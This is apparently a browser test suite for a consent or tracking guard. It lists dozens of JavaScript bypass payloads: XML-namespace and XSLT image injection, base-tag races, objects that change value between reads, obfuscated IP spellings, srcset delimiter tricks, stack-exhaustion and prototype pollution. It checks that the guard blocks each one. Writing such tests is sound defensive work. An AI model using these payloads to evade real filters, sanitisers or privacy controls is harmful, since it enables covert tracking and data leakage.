/** What is loaded and sent is what was decided on, however an address is said, and whatever happens in the meantime. */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attacker, attackedSite, newAttacker, openPage } from '../support/attacks.ts';
import { launchChromium, launchWholeChromium } from '../support/browsers.ts';
import type { TestSite } from '../support/site.ts';

/** Each way is shown to send without a guard. */
const WAYS: Record<string, string> = {
  'an element of another namespace': `const text = '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="' + sent + '"/>';
    document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
  'an element of another namespace, marked as waiting': `
    const text = '<x:img xmlns:x="http://www.w3.org/1999/xhtml" data-samtykke="analytics" src="' + sent + '"/>';
    document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
  'an object of another namespace': `const text = '<x:object xmlns:x="http://www.w3.org/1999/xhtml" data="' + sent + '"/>';
    document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
  'an address out of an entity': `const text = '<!DOCTYPE x [<!ENTITY e "' + sent + '">]>' +
      '<img xmlns="http://www.w3.org/1999/xhtml" src="&e;"/>';
    document.body.append(new DOMParser().parseFromString(text, 'text/xml').documentElement);`,
  'a body of another namespace': `const text = '<x:body xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="' + sent + '"/></x:body>';
    document.body = new DOMParser().parseFromString(text, 'text/xml').documentElement;`,
  "a table's caption of another namespace": `
    const text = '<x:caption xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="' + sent + '"/></x:caption>';
    put('table').caption = new DOMParser().parseFromString(text, 'text/xml').documentElement;`,
  'what a style sheet for XML makes': `const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
    const maker = new XSLTProcessor();
    maker.importStylesheet(parse('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">' +
      '<x:output method="html"/><x:template match="/"><img><x:attribute name="src">' + sent +
      '</x:attribute></img></x:template></x:stylesheet>'));
    document.body.append(maker.transformToFragment(parse('<a/>'), document));`,
  'a request with an address of its own': `const request = new Request(sent);
    Object.defineProperty(request, 'url', { value: '/own' }); fetch(request).catch(() => {});`,
  'a request of a class of its own': `class Own extends Request { get url() { return '/own'; } toString() { return '/own'; } }
    fetch(new Own(sent)).catch(() => {});`,
  "a request of another window's": `const { Request } = put('iframe').contentWindow; fetch(new Request(sent)).catch(() => {});`,
  'a URL with a text of its own': `const url = new URL(sent); url.toString = () => sent; url.toJSON = () => '/own';
    Object.defineProperty(url, 'href', { value: '/own' }); new Image().src = url;`,
  'a list with one address': `fetch([sent]).catch(() => {});`,
  'a text object': `new Image().src = Object.assign(new String(sent), { valueOf: () => '/own' });`,
  'an object with a primitive of its own': `new Image().src = { [Symbol.toPrimitive]: (hint) => (hint === 'string' ? sent : '/own') };`,
  'a proxy of a text': `new Image().src = new Proxy({}, { get: (_, key) => (key === 'toString' ? () => sent : undefined) });`,
  'document.all for an address': `Object.defineProperty(document.all, 'toString', { value: () => sent });
    new Image().src = document.all;`,
  'markup of another namespace in a picture': `const frame = put('iframe', { src: '/picture.svg' }); await loaded(frame);
    frame.contentDocument.documentElement.innerHTML = '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="' + sent + '"/>';`,
  'a base that is set after a script in a part of the page': `const part = make('div'); part.append(make('script', { src: '/' + mark }));
    document.head.append(make('base', { href: tracker + '/' })); document.body.append(part);`,
  'a base that is set after a form got its action': `const form = put('form', { action: '/' + mark, target: 'inner' });
    put('iframe', { name: 'inner' }); document.head.append(make('base', { href: tracker + '/' })); form.submit();`,
  'a base that is set while a request is opened': `const request = new XMLHttpRequest();
    request.open({ toString: () => { document.head.append(make('base', { href: tracker + '/' })); return 'GET'; } }, '/' + mark);
    request.send();`,
  'a base that is set while the options of a request are read': `fetch('/' + mark, { get method() {
      document.head.append(make('base', { href: tracker + '/' })); return 'GET'; } }).catch(() => {});`,
  'a base that is set while the data of a beacon is read': `navigator.sendBeacon('/' + mark, { toString: () => {
      document.head.append(make('base', { href: tracker + '/' })); return 'x'; } });`,
  'a base by markup': `document.head.insertAdjacentHTML('beforeend', '<base href="' + tracker + '/">');
    const part = make('div', { innerHTML: '<img src="/' + mark + '">' }); document.body.append(part);`,
  "a frame's own base, for its images": `const inner = put('iframe').contentDocument; const base = inner.createElement('base');
    base.href = tracker + '/'; inner.head.append(base); inner.body.append(Object.assign(inner.createElement('img'), { src: '/' + mark }));`,
  "a frame's own base, for its requests": `const frame = put('iframe'); const inner = frame.contentDocument;
    const base = inner.createElement('base'); base.href = tracker + '/'; inner.head.append(base);
    frame.contentWindow.fetch('/' + mark).catch(() => {});`,
  'a worklet': `try { await new AudioContext().audioWorklet.addModule(sent); } catch {}`,
  'a long address': `new Image().src = sent + '?' + 'x'.repeat(8_000);`,
  'a lone surrogate in an address': `new Image().src = sent + '\\ud800';`,
  "a frame of the page's own text, with a tab in its address": `
    put('iframe', { src: 'da\\tta:text/html,<script>fetch("' + sent + '", { mode: "no-cors" })</' + 'script>' });`,
  'an image whose XLink has another prefix': `const text = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">' +
      '<image width="9" height="9" x:href="' + sent + '"/></svg>';
    document.body.append(new DOMParser().parseFromString(text, 'image/svg+xml').documentElement);`,
  "a worker of the page's own text, with a tab in its address": `
    const text = URL.createObjectURL(new Blob(['fetch("' + sent + '")'])); try { new Worker(text.replace('b', 'b\\t')); } catch {}`,
  "a shared worker of the page's own text, after a control letter": `
    const text = 'data:text/javascript,fetch("' + sent + '")'; try { new SharedWorker('\\u0001' + text); } catch {}`,
  'a refresh with a quote in a name before its host': `const own = location.host + "'@";
    put('meta', { httpEquiv: 'refresh', content: '0;url=' + sent.replace('//', '//' + own) });`,
  'a refresh with a quote in a name before its host, in quotes': `
    put('meta', { httpEquiv: 'refresh', content: "0;url='" + sent.replace('//', '//' + location.host + "'@") + "'" });`,
  ...Object.fromEntries(
    ['thead', 'tbody', 'tfoot', 'colgroup', 'col'].map((tag) => [
      `the background of a ${tag}`,
      `const part = make('${tag}'); part.setAttribute('background', sent); put('table', { innerHTML: '<tr><td>x' }).append(part);
       part.innerHTML = '<tr><td>x';`,
    ]),
  ),
};

type Typed = readonly [by: string, code: string];
/**
 * What a default policy of the page's makes of texts that are harmless themselves, where Trusted Types are demanded; in
 * each by what it is replaced.
 */
const TYPED: Record<string, Typed> = {
  markup: [`'<img src="' + sent + '">'`, `put('div').innerHTML = 'x';`],
  'a script': ['sent', `put('script', { src: '/own' });`],
  'markup in pieces': [`text === 'a' ? '<img ' : 'src="' + sent + '">'`, `document.write('a'); document.write('b');`],
  'a worker': [`URL.createObjectURL(new Blob(['fetch("' + sent + '")']))`, `new Worker('/own');`],
  "a sandboxed frame's own text": [
    `'<script>fetch("' + sent + '", { mode: "no-cors" })</' + 'script>'`,
    `const frame = make('iframe', { srcdoc: 'x' }); frame.sandbox = 'allow-scripts'; document.body.append(frame);`,
  ],
};
/** How a policy may look like none: by `document.all`, which says of itself that it is nothing. */
const AS_NOTHING: Record<string, string> = {
  'as a whole': `HTMLAllCollection.prototype.createHTML = become; trustedTypes.createPolicy('default', document.all);`,
  'as its answer': `document.all.toString = become; trustedTypes.createPolicy('default', { createHTML: () => document.all });`,
};
const PLAIN_POLICY = `trustedTypes.createPolicy('default', { createHTML: become, createScriptURL: become });`;
const typed = ([by, code]: Typed, policy = PLAIN_POLICY): string => `
  document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: "require-trusted-types-for 'script'" }));
  const become = (text) => ${by};
  ${policy}
  ${code}`;

/** In each an allowed host stands before what a reader of lists may take for an end of the address. */
const LISTS: Record<string, string> = {
  'a letter that is no white space to browsers': `put('img', { srcset: 'http://site.test\\ufeff.tracker.test/' + mark });`,
  'a comma': `put('img', { srcset: 'http://site.test,.tracker.test/' + mark });`,
  'a comma, in the second of two': `put('img', { srcset: 'x 9x,http://site.test,.tracker.test/' + mark + ' 1x' });`,
  'a semicolon': `put('img', { srcset: 'http://site.test;.tracker.test/' + mark });`,
  'a semicolon, in a ping': `put('a', { href: '#x', ping: 'http://site.test;.tracker.test/' + mark }).click();`,
  'a line break, in an animation': `put('div', { innerHTML: '<svg><image width="9" height="9"><animate attributeName="href" dur="1s" values="http://site.test\\n.tracker.test/' +
    mark + ';#"/></image></svg>' });`,
};

/**
 * What is asked for where the stack ends, in the middle of a check. Each in a page of its own process, in which nothing
 * has run before: what the browser has compiled for speed takes less of the stack.
 */
const AT_THE_END: Record<string, string> = {
  'a picture': `const picture = new Image(); deep(() => { picture.src = sent; return picture.hasAttribute('src'); });`,
  'a request': `let tries = 0; deep(() => { fetch(sent).catch(() => {}); return ++tries > 50; });`,
  'an address that was asked for': `const picture = new Image(); let tries = 0;
    deep(() => { picture.src = sent; return ++tries > 200; }); put('img', { src: sent });`,
  markup: `const place = put('div'); let tries = 0;
    deep(() => { place.innerHTML = '<img src="' + sent + '">'; return ++tries > 50 || place.innerHTML.includes(' src'); });`,
};

/** How `http://host:port/path` may be said otherwise. */
const SPELLINGS = `
  const { hostname, port } = new URL(tracker); const number = hostname.split('.').reduce((sum, each) => sum * 256 + +each, 0);
  const end = ':' + port + '/' + mark;
  const spellings = [sent, ' ' + sent + '\\n', 'HTTP' + sent.slice(4), sent.replace('//', '\\\\\\\\'), sent.replace('http://', 'http:\\t/\\n/'),
    sent.slice(5), '\\t' + sent.slice(5), '/\\n' + sent.slice(6), '\\\\\\\\' + sent.slice(7), sent.replace('//', '//own@'),
    sent.replace('//', '//' + location.host + ':x@'), 'http://' + number + end, 'http://0x' + number.toString(16) + end, 'http://127.1' + end,
    'http://0177.0.0.1' + end, 'http://%31%32%37.0.0.1' + end, 'http://１２７。０．０．１' + end, 'http://127.0.0.1.' + end,
    sent + '#' + location.origin, sent + '?' + location.origin, sent.replace('/' + mark, '/own/../' + mark), 'http:////' + sent.slice(7)];
  const by = {
    property: (address) => { new Image().src = address; },
    attribute: (address) => { new Image().setAttribute('sRc', address); },
    set: (address) => { new Image().srcset = address.trim().replace(/[\\t\\n]/g, '') + ' 1x'; },
    markup: (address) => { make('div').innerHTML = '<IMG/a=">"sRC = \\'' + address.replace(/&/g, '&amp;') + '\\'/>'; },
    numbers: (address) => { make('div').innerHTML = '<img src=' + [...address.trim()].map((each) => '&#' + each.codePointAt(0) + ';').join('') + '>'; },
    request: (address) => { fetch(address).catch(() => {}); },
  };
  for (const [way, send] of Object.entries(by)) for (const [index, spelling] of spellings.entries()) send(spelling.replace(mark, mark + way + index));
  await wait(150);`;

/** An object that says one thing when it is looked at and another one when it is used. */
const TWICE = `
  const twice = (first, then) => { let reads = 0; return { toString: () => (reads++ === 0 ? first : then) }; };
  const tries = [
    () => { new Image().src = twice('/own', sent); }, () => { new Image().srcset = twice('/own', sent); },
    () => new Image().setAttribute(twice('title', 'src'), sent), () => new Image().setAttribute('src', twice('/own', sent)),
    () => new Image().setAttributeNS(null, twice('title', 'src'), sent), () => fetch(twice('/own', sent)).catch(() => {}),
    () => fetchLater?.(twice('/own', sent), { activateAfter: 0 }), () => navigator.sendBeacon(twice('/own', sent)),
    () => { const request = new XMLHttpRequest(); request.open('GET', twice('/own', sent)); request.send(); },
    () => new EventSource(twice('/own', sent)), () => new WebSocket(twice('/own', sent.replace('http', 'ws'))),
    () => new Worker(twice('/own', sent)), () => { make('div').innerHTML = twice('<p>', '<img src="' + sent + '">'); },
    () => put('div').insertAdjacentHTML('beforeend', twice('<p>', '<img src="' + sent + '">')),
    () => make('template').setHTMLUnsafe(twice('<p>', '<img src="' + sent + '">')),
    () => put('iframe', { srcdoc: twice('<p>', '<img src="' + sent + '">') }),
    () => new DOMParser().parseFromString(twice('<p>', '<img src="' + sent + '">'), 'text/html'),
    () => { const attribute = document.createAttribute('src'); attribute.value = twice('/own', sent); new Image().setAttributeNode(attribute); },
    () => { const picture = new Image(); picture.src = '/own'; picture.attributes.src.nodeValue = twice('/own', sent); },
    () => new RTCPeerConnection({ iceServers: [{ urls: twice('stun:' + location.hostname, 'stun:127.0.0.1') }] }),
    () => document.write(twice('<p>', '<img src="' + sent + '">')),
  ];
  for (const attempt of tries) try { attempt(); } catch {}
  await wait(150);`;

/** A connection that got a server nobody has declared, `pc`. */
const SERVED = `return pc.getConfiguration().iceServers.length > 0 && 'a server';`;
const PEERS: Record<string, string> = {
  'by its old name': `const pc = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:stun.example' }] }); ${SERVED}`,
  'of a class of its own': `class Own extends RTCPeerConnection {}
    const pc = new Own({ iceServers: [{ urls: 'stun:stun.example' }] }); ${SERVED}`,
  "made by another one's constructor": `const { constructor } = new RTCPeerConnection();
    const pc = new constructor({ iceServers: [{ urls: ['stun:stun.example'] }] }); ${SERVED}`,
  'made by Reflect':
    `const pc = Reflect.construct(RTCPeerConnection, [{ iceServers: [{ urls: 'stun:stun.example' }] }], Object); ${SERVED}`.replace(
      'pc.getConfiguration()',
      'RTCPeerConnection.prototype.getConfiguration.call(pc)',
    ),
  'with servers set later': `const pc = new RTCPeerConnection(); pc.setConfiguration({ iceServers: [{ urls: 'stun:stun.example' }] }); ${SERVED}`,
  'with servers that a generator gives': `const pc = new RTCPeerConnection({ iceServers: (function* () {
    yield { urls: (function* () { yield 'stun:stun.example'; })() }; })() }); ${SERVED}`,
};
/** These need something to get past: without a guard they do nothing. */
const INSIDE: Record<string, string> = {
  'while lists have another iterator': `const own = Array.prototype[Symbol.iterator];
    Array.prototype[Symbol.iterator] = function* () { yield { urls: 'stun:stun.example' }; };
    const pc = new RTCPeerConnection({ iceServers: [] }); Array.prototype[Symbol.iterator] = own; ${SERVED}`,
  'while every list has a first place': `Object.defineProperty(Array.prototype, 0, { configurable: true, set() {
      Object.defineProperty(this, 0, { value: { iceServers: [{ urls: 'stun:stun.example' }] } }); } });
    const pc = new RTCPeerConnection(); delete Array.prototype[0]; ${SERVED}`,
  'while every object has servers': `Object.prototype.iceServers = [{ urls: 'stun:stun.example' }];
    const pc = new RTCPeerConnection({}); delete Object.prototype.iceServers; ${SERVED}`,
  'whose servers are counted twice': `let reads = 0; const servers = [{ urls: 'stun:' + location.hostname }];
    const pc = new RTCPeerConnection({ iceServers: new Proxy(servers, { get: (list, key) => key === '0' && reads++ > 0 ?
      { urls: 'stun:stun.example' } : list[key] }) }); ${SERVED.replace('> 0', "> 0 && JSON.stringify(pc.getConfiguration()).includes('stun.example')")}`,
};

let browser: Browser;
let site: TestSite;
let attacker: Attacker;
/** On a host without a port. */
let named: Attacker;

beforeAll(async () => {
  site = await attackedSite({
    pages: {
      '/own': openPage('<p>Own</p>', 'none'),
      '/picture.svg': { by: 'none', type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
    },
  });
  const [at, trackerAt] = [site.address, site.tracker].map((address) => `127.0.0.1:${new URL(address).port}`);
  browser = await launchChromium([`--host-resolver-rules=MAP site.test ${at},MAP *.tracker.test ${trackerAt}`]);
  attacker = await newAttacker(browser, site);
  named = await newAttacker(browser, { ...site, address: 'http://site.test' });
});
afterAll(async () => {
  await browser.close();
  await site.stop();
});

/** Without a guard an attack is seen to send. */
async function expectSent(code: string, by = attacker): Promise<void> {
  await by.open('/bare');
  await by.run(code);
  await expect.poll(() => by.harm(), { interval: 10 }).not.toEqual([]);
}
/** What a page has begun to send is on its way before a request that comes after it. */
async function expectNothingSent(code: string, by = attacker): Promise<void> {
  await by.open('/');
  await by.run(code);
  await by.tab.waitForTimeout(50);
  await by.tab.request.get(`${site.tracker}/last`);
  expect(await by.harm()).toEqual([]);
}

/** The same of what a policy of the page makes; what is refused to a worker is said by an error. */
async function expectNothingMade(code: string): Promise<void> {
  await expectSent(code);
  await attacker.open('/');
  await attacker.run(`try { ${code} } catch {} await wait(150);`);
  expect(await attacker.harm()).toEqual([]);
}

describe('nothing is sent', () => {
  it.each(Object.keys(WAYS))('by %s', async (name) => {
    await expectSent(WAYS[name] as string);
    await expectNothingSent(WAYS[name] as string);
  });

  it.each(Object.keys(AT_THE_END))('by %s at the end of the stack', async (name) => {
    const fresh = await newAttacker(browser, site);
    await expectSent(AT_THE_END[name] as string);
    await expectNothingSent(AT_THE_END[name] as string, fresh);
    await fresh.context.close();
  });

  it.each(Object.keys(LISTS))('by a list with an allowed host before %s', async (name) => {
    await expectSent(LISTS[name] as string, named);
    await expectNothingSent(LISTS[name] as string, named);
  });

  it.each(Object.keys(TYPED))('by what a policy of the page makes of %s', async (name) => {
    await expectNothingMade(typed(TYPED[name] as Typed));
  });

  it.each(Object.keys(AS_NOTHING))('by a policy of the page that looks like none, %s', async (name) => {
    await expectNothingMade(typed(TYPED.markup as Typed, AS_NOTHING[name]));
  });

  it('to an address, however it is spelt', async () => {
    await attacker.harmOn('/bare', SPELLINGS);
    await expect.poll(async () => (await attacker.harm()).length).toBeGreaterThan(80);
    await expectNothingSent(SPELLINGS);
  });

  it('by an object that says two things', async () => {
    await expectNothingSent(TWICE);
  });
});

it('a policy of the page may say an address in another way', async () => {
  const code = `${typed(['new URL(text, location).href', `const script = put('script', { src: '/own' });`])} return new URL(script.src).pathname;`;
  expect(await attacker.harmOn('/', code)).toEqual(['"/own"']);
});

it('no way to pay is asked for at an address that is refused', async () => {
  // The engine alone lacks what asks.
  const whole = await launchWholeChromium();
  const buyer = await newAttacker(whole, site);
  const code = (
    ...methods: readonly string[]
  ): string => `const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
    const methods = [${methods.join()}].map((supportedMethods) => ({ supportedMethods }));
    try { await new PaymentRequest(methods, { total }).canMakePayment(); } catch (error) { return error.name; }`;
  await buyer.open('/bare');
  await buyer.run(code('sent'));
  await expect.poll(() => buyer.harm(), { interval: 10 }).not.toEqual([]);
  await expectNothingSent(code('sent', 'sent + 2', '"basic-card"'), buyer);
  expect(await buyer.harmOn('/', code('"/pay"'))).toEqual(['"RangeError"']);
  await whole.close();
});

describe('a peer connection gets no server that is not allowed', () => {
  it.each(Object.keys(PEERS))('%s', async (name) => {
    expect(await attacker.harmOn('/bare', PEERS[name] as string)).not.toEqual([]);
    expect(await attacker.harmOn('/', PEERS[name] as string)).toEqual([]);
  });

  it.each(Object.keys(INSIDE))('%s', async (name) => {
    expect(await attacker.harmOn('/', INSIDE[name] as string)).toEqual([]);
  });
});
